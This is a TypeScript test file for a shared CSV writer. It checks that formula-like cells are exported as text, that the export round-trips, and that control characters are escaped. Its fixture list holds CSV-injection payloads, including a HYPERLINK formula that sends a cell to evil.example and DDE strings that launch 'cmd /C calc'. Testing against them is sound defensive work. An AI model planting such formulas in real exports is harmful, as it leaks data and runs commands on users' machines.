/**
 * The shared CSV writer: every cell a spreadsheet would run as a formula leaves as text, whatever its
 * source; the file stays valid CSV (read back here with csv-parse); importing our own export gives the
 * original values back; and terminal/JSON text never carries raw control characters.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { escapeControls, readCell, safeCell, safeJson, toCsv } from './csv.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uff1d1+1', // fullwidth equals
  "'=already quoted",
];

describe('toCsv', () => {
  it.each(HOSTILE)('writes %j as text a spreadsheet will not evaluate', (cell) => {
    const [[back]] = parse(toCsv([[cell]]), { relax_quotes: true }) as string[][] as [[string]];
    expect(back.startsWith("'")).toBe(true);
    expect(back.slice(1)).toBe(cell);
  });

  it('leaves ordinary values alone, quoting only where CSV needs it', () => {
    expect(
      toCsv([
        ['line', 'name'],
        [2, "O'Neill, Aoife"],
        [3, 'Smith "Jr"'],
        [4, true],
      ]),
    ).toBe('line,name\n2,"O\'Neill, Aoife"\n3,"Smith ""Jr"""\n4,true\n');
  });

  it('quotes every cell when asked (the audit export)', () => {
    expect(toCsv([['a', '-1']], { quoteAll: true })).toBe('"a","\'-1"\n');
  });

  it('readCell undoes exactly what safeCell did, so an export imports unchanged', () => {
    for (const v of [...HOSTILE, 'plain', "O'Neill", "'plain", "''=x", ''])
      expect(readCell(safeCell(v))).toBe(v);
  });
});

// Anything but the indentation's line breaks.
// eslint-disable-next-line no-control-regex
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe('control characters', () => {
  it('are shown as \\uXXXX in table text', () => {
    expect(escapeControls('Eve\u0000\u001b[31mRed\u202eevil\u0085')).toBe(
      'Eve\\u0000\\u001b[31mRed\\u202eevil\\u0085',
    );
  });

  it('never appear raw in JSON, which still parses to the same value', () => {
    const value = { name: 'a\u0000b\u007f\u0085\u2028\u202e\u2066c', n: [1] };
    const text = safeJson(value);
    expect(text).not.toMatch(RAW);
    expect(JSON.parse(text)).toEqual(value);
  });
});
